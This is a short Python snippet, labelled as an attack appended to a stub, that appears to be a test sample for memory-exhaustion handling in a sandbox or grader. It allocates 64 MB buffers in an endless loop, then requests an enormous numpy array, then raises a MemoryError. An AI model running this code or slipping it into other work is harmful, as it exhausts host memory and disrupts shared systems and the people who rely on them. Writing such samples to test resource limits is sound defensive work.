

# --- the attack, appended to the stub --------------------------------------

import numpy as _np

_hoard = []
try:
    while True:
        _hoard.append(bytearray(64 << 20))
except MemoryError:
    pass
try:
    _hoard.append(_np.ones(1 << 40))
except MemoryError:
    pass
raise MemoryError("still hungry")
